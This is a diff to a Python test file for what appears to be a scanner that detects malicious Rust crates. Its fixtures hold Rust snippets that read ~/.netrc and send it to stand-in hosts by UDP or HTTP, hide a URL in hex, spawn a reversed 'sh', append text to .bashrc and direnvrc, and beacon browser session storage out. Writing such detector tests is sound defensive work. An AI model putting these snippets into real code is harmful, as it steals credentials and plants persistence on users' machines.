@@ -8,6 +8,7 @@ import pytest
 
 from cratewatch.scan.crate import scan_crate
 from cratewatch.scan.dataflow import MAX_BOUNDARIES, MAX_FUNCTIONS, DataFlow, opaque, unit_flows
+from cratewatch.scan.dataflow.facts import fixed_address
 from cratewatch.scan.extract import CrateArchive
 
 HOME = 'let home = std::path::PathBuf::from(std::env::var_os("HOME").unwrap());\n'
@@ -182,7 +183,11 @@ def verdict(files: dict[str, bytes]) -> str:
 
 
 def test_the_verdict_weighs_where_the_flow_runs() -> None:
-    code = (SAMPLE / "positive.rs").read_bytes()
+    fixed = (SAMPLE / "positive.rs").read_bytes()
+    # sent where the user says (not to an address of the crate's): one tactic
+    code = fixed.replace(b'"https://metrics.example.net/v1/ingest"', b"&std::env::args().nth(1)?")
+    assert code != fixed
+    assert verdict({"src/lib.rs": fixed}) == "malicious"  # collected for the crate's author
     assert verdict({"src/lib.rs": code}) == "suspicious"  # one tactic, in library code
     assert verdict({"build.rs": code + b"\nfn main() {}\n"}) == "malicious"  # while building
     dropped = code + b"\nimpl Drop for Reporter { fn drop(&mut self) { self.flush(); } }\n"
@@ -251,3 +256,106 @@ def test_a_connection_made_by_a_bare_imported_function() -> None:
         "async fn f() { let (ws, _) = connect_async(name(&PEER)).await.unwrap(); ws.send(1); }\n"
     )
     assert [(flow.action, flow.sink) for flow in flows(source)] == [("contact", "connect_async")]
+
+
+@pytest.mark.parametrize(
+    ("literal", "expected"),
+    [
+        ("https://collector.example/v1/ingest", True),
+        ("http://user@203.0.113.9:8080/x", True),
+        ("198.51.100.69:69", True),
+        ("influx.example.org:8086", True),
+        ("https://{}/v1", False),  # its host comes from input
+        ("https://{host}/api", False),
+        ("0.0.0.0:0", False),
+        ("127.0.0.1:6969", False),
+        ("http://localhost:8080/", False),
+        ("192.168.1.10:69", False),
+        ("10.0.0.1", False),
+        ("http://169.254.169.254/latest/meta-data", False),
+        ("file:///etc/passwd", False),
+        ("https://intranet/x", False),  # a single-label name: a local network's
+        ("settings.json", False),
+    ],
+)
+def test_an_address_fixed_in_the_crate(literal: str, expected: bool) -> None:
+    assert fixed_address(literal) is expected
+
+
+def test_a_flow_to_an_address_the_crate_fixes() -> None:
+    read = f"fn f() -> Option<()> {{\n{HOME}let d = std::fs::read(home.join(\".netrc\")).ok()?;\n"
+    # a socket carries the address it sends to, even when the data goes to the reply's
+    udp = (
+        read + 'let s = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;\n'
+        's.send_to(b"hello", "198.51.100.69:69").ok()?;\n'
+        "let (_, from) = s.recv_from(&mut [0u8; 4]).ok()?;\n"
+        "s.send_to(&d, from).ok()?; None }\n"
+    )
+    assert {flow.fixed for flow in flows(udp)} == {True}
+    named = "const URL: &str = \"https://sink.example/u\";\n" + read
+    named += "ureq::post(URL).send_bytes(&d).ok()?; None }\n"
+    assert [flow.fixed for flow in flows(named)] == [True]
+    chosen = read + "ureq::post(&std::env::args().nth(1)?).send_bytes(&d).ok()?; None }\n"
+    assert [flow.fixed for flow in flows(chosen)] == [False]
+
+
+def test_a_decoder_given_only_literals_and_a_constant_by_its_path() -> None:
+    tables = (
+        'pub const T: [&str; 2] = ["2e6a6b73", "68747470"];\n'
+        "pub fn table(from: usize, to: usize) -> String {\n"
+        "  let v: Vec<u8> = T[from..to].iter().flat_map(|s| s.bytes()).collect();\n"
+        "  String::from_utf8(v).unwrap_or_default()\n}\n"
+    )
+    send = (
+        f"fn go() {{\n{HOME}let d = std::fs::read(home.join(\".netrc\")).unwrap();\n"
+        "ureq::post(&super::t::table(0, 2)).send_bytes(&d).ok(); }\n"
+    )
+    assert [(f.hidden, f.fixed) for f in flows(send, t=tables)] == [(True, True)]
+    by_path = (
+        "fn go() { std::process::Command::new(crate::t::swap(super::t::NAME)).spawn().ok(); }\n"
+    )
+    swap = (
+        'pub const NAME: &str = "hs";\n'
+        "pub fn swap(s: &str) -> String {\n"
+        "  let c: Vec<char> = s.chars().collect(); let mut out = c.clone();\n"
+        "  for i in 0..c.len() { out[i] = c[c.len() - 1 - i]; }\n"
+        "  out.into_iter().collect()\n}\n"
+    )
+    assert [(f.action, f.hidden) for f in flows(by_path, t=swap)] == [("run", True)]
+
+
+def test_decoded_text_planted_in_another_programs_settings() -> None:
+    decoder = (
+        "const LINE: &str = \"KEEP\";\n"
+        "fn caps(s: &str) -> String { s.chars().map(|c| (c as u8 ^ 0x20) as char).collect() }\n"
+    )
+    appended = decoder + (
+        f"fn f() {{\n{HOME}"
+        '  let rc = home.join(".config/direnv/direnvrc");\n'
+        "  let mut f = std::fs::OpenOptions::new().append(true).open(&rc).unwrap();\n"
+        '  writeln!(f, "{}", caps(LINE)).ok();\n'
+        f"  std::fs::write(home.join(\".bashrc\"), caps(LINE)).ok();\n}}\n"
+    )
+    planted = [(f.action, f.planted, f.sink) for f in flows(appended)]
+    assert planted == [("write", True, "socket write!"), ("write", True, "file write")]
+    # numbers rendered as text, or the crate's own file: nothing planted
+    rendered = (
+        "const B: [f64; 4] = [0.5, 1.0, 2.5, 10.0];\n"
+        "fn render(t: &[f64]) -> String { t.iter().map(|x| format!(\"{x}\\n\")).collect() }\n"
+        f"fn f() {{\n{HOME}  std::fs::write(home.join(\".cache/b\"), render(&B)).ok();\n}}\n"
+    )
+    assert flows(rendered) == []
+    own = appended.replace("direnv/direnvrc", "sample/rc").replace(".bashrc", ".sample")
+    assert flows(own) == []
+
+
+def test_a_web_pages_storage_sent_by_a_beacon() -> None:
+    source = (
+        "fn f() {\n"
+        "  let w = web_sys::window().unwrap();\n"
+        "  let store = w.local_storage().unwrap().unwrap();\n"
+        '  let v = store.get_item("session").unwrap().unwrap_or_default();\n'
+        '  w.navigator().send_beacon_with_opt_str("https://b.example/c", Some(&v)).ok();\n}\n'
+    )
+    (flow,) = flows(source)
+    assert (flow.sink, flow.sources, flow.fixed) == ("beacon", frozenset({"browser-storage"}), True)
